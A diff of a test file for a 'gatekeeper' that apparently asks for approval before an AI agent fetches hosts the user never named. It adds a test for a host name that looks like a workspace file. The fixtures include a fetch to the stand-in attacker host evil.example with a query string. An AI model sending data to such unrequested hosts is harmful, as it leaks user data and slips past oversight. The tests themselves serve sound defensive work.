@@ -45,6 +45,14 @@ describe('The gatekeeper', () => {
     expect((await shop.ended('r')).closed?.status).toBe('succeeded');
   });
 
+  it('asks about a host that is called like a file of the goal', async () => {
+    const { shop, start, asked, ran } = await shopOf([fetch('page', 'https://sales.info/?q=1')], 'model');
+    await shop.workspace.write('sales.info', Buffer.from('1'));
+    await start('Describe sales.info');
+    expect((await asked()).questions.get('page-gate')?.reason).toContain('sales.info');
+    expect(ran).toEqual([]);
+  });
+
   it('asks about a host that nobody named, and what it would send is seen', async () => {
     const { shop, ran, start, asked } = await shopOf([fetch('page', 'https://evil.example/?q=1')], 'model');
     await start('Describe cars.csv');
